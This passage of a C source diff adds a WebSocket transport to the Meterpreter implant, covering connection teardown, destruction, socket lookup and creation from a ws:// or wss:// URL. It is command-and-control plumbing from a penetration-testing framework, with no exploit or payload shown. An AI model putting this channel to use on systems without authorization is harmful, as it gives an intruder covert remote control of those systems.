+			break;
+		}
+
+		ctx->last_received = current_unix_timestamp();
+		ctx->ping_sent = 0;
+		ctx->pipeline = pipeline_create(remote, packet_write_frame_via_websocket);
+		success = TRUE;
+	} while (0);
+
+	free(buffer);
+	return success;
+}
+
+/*!
+ * @brief Close the connection, after flushing anything that is still queued.
+ * @param remote Pointer to the remote instance.
+ * @return Indication of success or failure.
+ */
+static BOOL transport_deinit_websocket(Remote* remote)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	PacketPipeline* pipeline;
+
+	lock_acquire(remote->lock);
+	pipeline = ctx->pipeline;
+	ctx->pipeline = NULL;
+	lock_release(remote->lock);
+
+	pipeline_destroy(pipeline);
+
+	if (ctx->fd)
+	{
+		// 1000 is a normal closure, there's no point waiting for the server's answer
+		websocket_write_frame(ctx, WEBSOCKET_OP_CLOSE, (PUCHAR)"\x03\xe8", 2, NULL, 0);
+	}
+
+	if (ctx->ssl)
+	{
+		SSL_free(ctx->ssl);
+		ctx->ssl = NULL;
+	}
+
+	if (ctx->ctx)
+	{
+		SSL_CTX_free(ctx->ctx);
+		ctx->ctx = NULL;
+		server_shutdown_ssl(remote);
+	}
+
+	if (ctx->fd)
+	{
+		closesocket(ctx->fd);
+		ctx->fd = 0;
+	}
+
+	SAFE_FREE(ctx->message);
+	ctx->message_length = 0;
+
+	return TRUE;
+}
+
+/*!
+ * @brief Destroy the WebSocket transport.
+ * @param remote Pointer to the remote instance whose transport is destroyed.
+ */
+static void transport_destroy_websocket(Remote* remote)
+{
+	if (remote && remote->transport && (remote->transport->type == METERPRETER_TRANSPORT_WS
+		|| remote->transport->type == METERPRETER_TRANSPORT_WSS))
+	{
+		WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+
+		dprintf("[TRANS WEBSOCKET] Destroying websocket transport for url %s", remote->transport->url);
+		lock_destroy(ctx->ssl_lock);
+		lock_destroy(ctx->write_lock);
+		SAFE_FREE(remote->transport->url);
+		SAFE_FREE(remote->transport->ctx);
+		SAFE_FREE(remote->transport);
+	}
+}
+
+/*!
+ * @brief Get the socket from the transport.
+ * @param transport Pointer to the WebSocket transport containing the socket.
+ * @return The current transport socket FD, if any, or zero.
+ */
+static SOCKET transport_get_socket_websocket(Transport* transport)
+{
+	if (transport && (transport->type == METERPRETER_TRANSPORT_WS || transport->type == METERPRETER_TRANSPORT_WSS))
+	{
+		return ((WebSocketTransportContext*)transport->ctx)->fd;
+	}
+
+	return 0;
+}
+
+/*!
+ * @brief Creates a new WebSocket transport instance.
+ * @param url The \c ws:// or \c wss:// URL to connect to.
+ * @param timeouts The timeout values to use for this transport.
+ * @return Pointer to the newly configured/created WebSocket transport instance.
+ */
+Transport* transport_create_websocket(char* url, TimeoutSettings* timeouts)
+{
+	Transport* transport = (Transport*)malloc(sizeof(Transport));
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)malloc(sizeof(WebSocketTransportContext));
+
+	dprintf("[TRANS WEBSOCKET] Creating websocket transport for url %s", url);
+
+	memset(transport, 0, sizeof(Transport));
+	memset(ctx, 0, sizeof(WebSocketTransportContext));
+
+	ctx->ssl_lock = lock_create();
+	ctx->write_lock = lock_create();
+	if (!ctx->ssl_lock || !ctx->write_lock)
+	{
+		lock_destroy(ctx->ssl_lock);
+		lock_destroy(ctx->write_lock);
+		free(ctx);
+		free(transport);
+		return NULL;
+	}
+
+	memcpy(&transport->timeouts, timeouts, sizeof(transport->timeouts));
+
+	ctx->secure = strncasecmp(url, "wss://", 6) == 0;
+
+	transport->type = ctx->secure ? METERPRETER_TRANSPORT_WSS : METERPRETER_TRANSPORT_WS;
+	transport->url = strdup(url);
+	transport->packet_transmit = packet_transmit_via_websocket;
+	transport->transport_init = configure_websocket_connection;
+	transport->transport_deinit = transport_deinit_websocket;
+	transport->transport_destroy = transport_destroy_websocket;
+	transport->server_dispatch = server_dispatch_websocket;
+	transport->get_socket = transport_get_socket_websocket;
+	transport->ctx = ctx;
+	transport->expiration_end = current_unix_timestamp() + transport->timeouts.expiry;
+	transport->start_time = current_unix_timestamp();
+	transport->comms_last_packet = current_unix_timestamp();
+
+	return transport;
+}